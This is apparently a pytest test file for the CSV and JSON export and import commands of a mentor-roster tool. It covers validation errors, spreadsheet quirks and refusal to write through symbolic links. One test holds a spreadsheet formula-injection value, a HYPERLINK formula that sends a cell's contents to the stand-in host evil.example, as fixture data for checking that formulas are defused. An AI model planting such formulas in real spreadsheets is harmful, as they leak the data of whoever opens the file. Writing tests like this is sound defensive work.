"""`export` and `import` end to end: the roster survives CSV, and a bad CSV writes nothing."""

import csv
import io
import json
import os
import stat

import pytest

from mentor_gallery.content.loader import load_roster
from mentor_gallery.content.profile_fields import CONTACT_KEYS, PROFILE_FIELDS, csv_columns
from mentor_gallery.content.slugs import MAX_SLUG_CHARS
from support import EXAMPLE_CONTENT, copy_example, make_roster, profile, run_cli


def run(capsys, *args) -> tuple[int, str, str]:
    return run_cli(capsys, *args)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def emptied(content):
    """The roster without its profiles: same taxonomy, programs and photos."""
    for path in (content / "mentors").glob("*.md"):
        path.unlink()
    return content


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_export_then_import_into_an_empty_roster_reproduces_it(here, capsys):
    code, first, err = run(capsys, "export", EXAMPLE_CONTENT)
    assert code == 0, err
    (here / "roster.csv").write_text(first, encoding="utf-8")
    copy = emptied(copy_example(here / "copy"))

    code, _, err = run(capsys, "import", "roster.csv", "--content", copy)
    assert code == 0, err
    code, second, err = run(capsys, "export", copy)
    assert code == 0, err
    assert second.encode("utf-8") == first.encode("utf-8")

    original = {m.slug: m for m in load_roster(EXAMPLE_CONTENT).roster.mentors}
    imported = load_roster(copy)
    assert imported.ok, imported.problems
    assert sorted(m.slug for m in imported.roster.mentors) == sorted(original) and len(original) == 28
    for mentor in imported.roster.mentors:
        assert mentor.raw == original[mentor.slug].raw, mentor.slug
        assert mentor.body == original[mentor.slug].body, mentor.slug


def test_csv_has_the_contract_columns_and_the_values_as_written(here, capsys):
    code, out, _ = run(capsys, "export", EXAMPLE_CONTENT)
    assert code == 0
    assert out.startswith("\ufeff")  # so that Excel reads it as UTF-8
    assert out[1:].split("\n", 1)[0].split(",") == csv_columns()
    by_slug = {r["slug"]: r for r in rows(out)}
    roster = load_roster(EXAMPLE_CONTENT).roster
    assert list(by_slug) == sorted(m.slug for m in roster.mentors)
    for mentor in roster.mentors:
        record, raw = by_slug[mentor.slug], mentor.raw
        assert record["body"] == mentor.body
        # Aliases as written, not the labels the site shows.
        assert record["expertise"] == "; ".join(raw["expertise"])
        assert record["updated"] == (raw["updated"].isoformat() if "updated" in raw else "")
        for key in ("accepting", "mentored_before"):
            assert record[key] == {True: "yes", False: "no", None: ""}[raw.get(key)]
        assert record["capacity"] == (str(raw["capacity"]) if "capacity" in raw else "")
        contact = raw.get("contact") or {}
        assert record["contact_email"] == contact.get("email", "")  # private ones too: a committee tool
        assert record["contact_public"] == {True: "yes", False: "no", None: ""}[contact.get("public")]
    aliased = [m for m in roster.mentors if any(t.label not in m.raw["expertise"] for t in m.expertise)]
    assert aliased, "the example roster should use an alias somewhere"


def test_json_export_has_typed_values_and_a_nested_contact(here, capsys):
    code, out, _ = run(capsys, "export", "--format", "json", EXAMPLE_CONTENT)
    assert code == 0
    records = json.loads(out)
    roster = {m.slug: m for m in load_roster(EXAMPLE_CONTENT).roster.mentors}
    assert [r["slug"] for r in records] == sorted(roster)
    for record in records:
        mentor = roster[record["slug"]]
        assert list(record) == ["slug", *(f.key for f in PROFILE_FIELDS), "body"]
        assert record["expertise"] == mentor.raw["expertise"]
        assert record["capacity"] == mentor.raw.get("capacity")
        assert record["updated"] == (mentor.updated.isoformat() if mentor.updated else None)
        if mentor.contact:
            assert list(record["contact"]) == list(CONTACT_KEYS)
            assert record["contact"]["email"] == mentor.contact.email
        else:
            assert record["contact"] is None
    assert any(r["mentored_before"] is True for r in records) and any(isinstance(r["years_as_manager"], int) for r in records)


def test_export_refuses_content_that_check_rejects(here, capsys):
    content = make_roster(here / "content", {"ana-diaz": profile(expertise="[Finanse]"), "bo-lind": profile("Bo Lind")})
    code, out, err = run(capsys, "export", content)
    assert code == 1 and out == ""
    assert "content/mentors/ana-diaz.md:6: unknown expertise 'Finanse'; did you mean 'Finance'?" in err


def test_export_warns_about_list_items_that_csv_would_split(here, capsys):
    content = make_roster(here / "content", {"ana-diaz": profile(education='["MPA; BA"]')})
    code, out, err = run(capsys, "export", content)
    assert code == 0 and rows(out)[0]["education"] == "MPA; BA"
    assert "content/mentors/ana-diaz.md: warning: education item 'MPA; BA' contains ';'" in err


def csv_text(*records: dict[str, str], columns: list[str] | None = None) -> str:
    columns = columns or ["slug", "name", "title", "organization", "region", "expertise"]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(records)
    return out.getvalue()


def good(slug: str, **cells: str) -> dict[str, str]:
    return {"slug": slug, "name": slug.replace("-", " ").title(), "title": "Town Manager", "organization": "Town of Alder",
            "region": "Western", "expertise": "Finance; Strategic Planning", **cells}


def test_every_bad_record_is_reported_and_nothing_is_written(here, capsys):
    content = make_roster(here / "content", {"ana-diaz": profile()})
    columns = ["slug", "name", "title", "organization", "region", "expertise", "accepting", "capacity", "programs", "updated", "body"]
    records = [
        good("bo-lind", body="Line one.\nLine two, of the same record.\n"),  # 1: valid, multi-line
        good("cy-moss", expertise="Finanse"),                                 # 2
        good("bo-lind"),                                                      # 3: repeats record 1
        good("Di Park"),                                                      # 4
        good("ed-ng", accepting="maybe", capacity="two"),                     # 5: two problems
        good("fay-oh", region=""),                                            # 6
        good("ana-diaz"),                                                     # 7: exists
        good("gil-ray", programs="coching", updated="March 4, 2025"),         # 8: no programs exist; bad date
        good("hal-ito"),                                                      # 9: valid
    ]
    (here / "new.csv").write_text(csv_text(*records, columns=columns), encoding="utf-8")
    code, out, err = run(capsys, "import", "new.csv")
    assert code == 1 and out == ""
    lines = err.splitlines()
    expected = [
        "new.csv:2: unknown expertise 'Finanse'; did you mean 'Finance'?",
        "new.csv:3: slug 'bo-lind' is also used by record 1; each profile needs its own slug",
        "new.csv:4: slug 'Di Park' may use only a-z, 0-9 and '-'; e.g. di-park",
        "new.csv:5: accepting must be yes or no, not 'maybe'",
        "new.csv:5: capacity must be a whole number of 0 or more, not 'two'",
        "new.csv:6: region is required (one of the regions in taxonomy.yml); add 'region: ...'",
        "new.csv:7: content/mentors/ana-diaz.md already exists; use --update to replace it, or choose another slug",
        "new.csv:8: updated 'March 4, 2025' is not a date; write it as 2026-03-15 (or as a spreadsheet writes it: 3/15/2026, 15/3/2026)",
        "new.csv:8: unknown program 'coching'; there is no program in content/programs yet",
    ]
    assert lines[:-1] == expected
    assert "7 record(s) have problems; nothing was imported" in lines[-1]
    assert sorted(p.name for p in (content / "mentors").iterdir()) == ["ana-diaz.md"]


def test_unknown_and_missing_columns_are_header_errors(here, capsys):
    content = make_roster(here / "content", {})
    (here / "new.csv").write_text(csv_text(good("bo-lind") | {"nmae": "x"}, columns=["slug", "nmae", "title", "organization", "region", "expertise", "name"]), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 1
    assert "new.csv:header: unknown column 'nmae'; did you mean 'name'?" in err.splitlines()
    (here / "new.csv").write_text("name,region\nBo,Western\n", encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 1 and "new.csv:header: the header has no 'slug' column" in err
    assert not (content / "mentors").exists() or not list((content / "mentors").iterdir())


def test_update_replaces_an_existing_profile_and_only_with_update(here, capsys):
    content = make_roster(here / "content", {"ana-diaz": profile(), "bo-lind": profile("Bo Lind")})
    (here / "new.csv").write_text(csv_text(good("ana-diaz", title="County Manager")), encoding="utf-8")
    assert run(capsys, "import", "new.csv")[0] == 1
    assert load_roster(content).roster.mentors[0].title == "Town Manager"
    code, _, err = run(capsys, "import", "new.csv", "--update")
    assert code == 0 and "updated content/mentors/ana-diaz.md" in err
    mentors = {m.slug: m for m in load_roster(content).roster.mentors}
    assert mentors["ana-diaz"].title == "County Manager" and mentors["bo-lind"].name == "Bo Lind"


def test_values_yaml_would_misread_are_written_so_they_read_back_exactly(here, capsys):
    content = make_roster(here / "content", {})
    tricky = good("bo-lind", name="yes", city="2024-01-01", state="NO", summary="Budgets: my subject #1",
                  education="'quoted'; @home; [brackets]; 1:20", contact_phone="5550100", contact_public="no")
    columns = list(tricky)
    (here / "new.csv").write_text(csv_text(tricky, columns=columns), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 0, err
    [mentor] = load_roster(content).roster.mentors
    assert (mentor.name, mentor.city, mentor.state, mentor.summary) == ("yes", "2024-01-01", "NO", "Budgets: my subject #1")
    assert mentor.education == ["'quoted'", "@home", "[brackets]", "1:20"]
    assert mentor.raw["contact"] == {"phone": "5550100", "public": False}
    text = (content / "mentors" / "bo-lind.md").read_text(encoding="utf-8")
    assert text.startswith("---\nname: 'yes'\ntitle: Town Manager\n") and text.endswith("---\n")


def test_import_needs_a_sound_taxonomy(here, capsys):
    content = make_roster(here / "content", {}, taxonomy="expertise: [Finance]\n")
    (here / "new.csv").write_text(csv_text(good("bo-lind")), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 1 and "content/taxonomy.yml:1: taxonomy needs a 'regions:' list" in err and "nothing was imported" in err
    assert not (content / "mentors" / "bo-lind.md").exists()


def test_record_numbers_count_records_not_lines(here, capsys):
    make_roster(here / "content", {})
    text = csv_text(good("bo-lind", body="one\ntwo\nthree\n"), columns=[*good("x"), "body"])
    assert text.count("\n") == 5
    text += "cy-moss,Cy,Town Manager,Town of Alder,Nowhere,Finance,\n"
    (here / "new.csv").write_text(text, encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 1
    assert err.splitlines()[0] == "new.csv:2: unknown region 'Nowhere'; choose one of: Western, Piedmont"


def test_a_csv_saved_by_a_spreadsheet_with_bom_and_crlf_imports(here, capsys):
    content = make_roster(here / "content", {})
    text = csv_text(good("bo-lind"), good("cy-moss")).replace("\n", "\r\n")
    (here / "new.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 0, err
    assert sorted(m.slug for m in load_roster(content).roster.mentors) == ["bo-lind", "cy-moss"]


def test_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_restored_on_import(here, capsys):
    hostile = {
        "summary": "'=HYPERLINK(\"https://evil.example/?\"&V2, \"Click\")'",
        "city": "'@SUM(1+1)'",
        "title": "\"'=already quoted\"",
        "contact": "{phone: '+1 555 0100', public: true}",
    }
    source = make_roster(here / "content", {"ana-diaz": profile(**hostile).replace("I have led", "- I have led")})
    code, out, err = run(capsys, "export", source)
    assert code == 0, err
    [record] = rows(out)
    assert record["summary"] == "'=HYPERLINK(\"https://evil.example/?\"&V2, \"Click\")"
    assert (record["city"], record["title"], record["contact_phone"]) == ("'@SUM(1+1)", "''=already quoted", "'+1 555 0100")
    assert record["body"].startswith("'- I have led")
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in record.values())

    (here / "roster.csv").write_text(out, encoding="utf-8")
    copy = make_roster(here / "copy", {})
    assert run(capsys, "import", "roster.csv", "--content", copy)[0] == 0
    [original] = load_roster(source).roster.mentors
    [imported] = load_roster(copy).roster.mentors
    assert imported.raw == original.raw and imported.body == original.body
    assert run(capsys, "export", copy)[1] == out


def test_import_never_writes_through_a_link_named_like_a_profile(here, capsys):
    content = make_roster(here / "content", {})
    outside = here / "outside.md"
    outside.write_text(profile("Someone Else"), encoding="utf-8")  # valid: only the link is at fault
    (content / "mentors").mkdir()
    (content / "mentors" / "bo-lind.md").symlink_to(outside)
    (content / "mentors" / "cy-moss.md").symlink_to(here / "nowhere.md")  # dangling: old code created it
    (here / "new.csv").write_text(csv_text(good("bo-lind"), good("cy-moss")), encoding="utf-8")
    for update in ((), ("--update",)):
        code, out, err = run(capsys, "import", "new.csv", *update)
        assert code == 1 and out == ""
        lines = err.splitlines()
        assert lines[0].startswith("new.csv:1: content/mentors/bo-lind.md is a symbolic link;"), lines
        assert lines[1].startswith("new.csv:2: content/mentors/cy-moss.md is a symbolic link;"), lines
        assert "nothing was imported" in lines[-1]
    assert outside.read_text(encoding="utf-8") == profile("Someone Else")
    assert not (here / "nowhere.md").exists()


def test_import_refuses_a_profiles_folder_that_links_outside(here, capsys):
    content = make_roster(here / "content", {})
    (here / "elsewhere").mkdir()
    (content / "mentors").symlink_to(here / "elsewhere", target_is_directory=True)
    (here / "new.csv").write_text(csv_text(good("bo-lind")), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv", "--content", content)
    assert code == 1
    first = err.splitlines()[0]  # the loader may name the link first; either way, at the folder
    assert first.startswith("content/mentors:1: ") and "symbolic link" in first, err
    assert list((here / "elsewhere").iterdir()) == []


def test_update_swaps_in_a_new_file_and_keeps_its_permissions(here, capsys):
    content = make_roster(here / "content", {"ana-diaz": profile()})
    path = content / "mentors" / "ana-diaz.md"
    path.chmod(0o640)
    # A second name for the same file: written through, it would change too; replaced, it keeps the old text.
    other_name = here / "other-name.md"
    os.link(path, other_name)
    before = other_name.read_bytes()
    (here / "new.csv").write_text(csv_text(good("ana-diaz", title="County Manager")), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv", "--update")
    assert code == 0, err
    assert load_roster(content).roster.mentors[0].title == "County Manager"
    assert other_name.read_bytes() == before
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert [p.name for p in (content / "mentors").iterdir()] == ["ana-diaz.md"]  # no temporary file left


def test_an_over_long_slug_is_a_record_problem_naming_the_limit(here, capsys):
    content = make_roster(here / "content", {})
    slug = "b" * 300
    (here / "new.csv").write_text(csv_text(good(slug), good("c" * MAX_SLUG_CHARS)), encoding="utf-8")
    code, _, err = run(capsys, "import", "new.csv")
    assert code == 1 and "Traceback" not in err
    lines = err.splitlines()
    assert lines[0].startswith(f"new.csv:1: slug '{'b' * 40}...' has 300 characters, over the limit of {MAX_SLUG_CHARS}"), lines
    assert len(lines) == 2 and "nothing was imported" in lines[1]
    assert not (content / "mentors").exists()
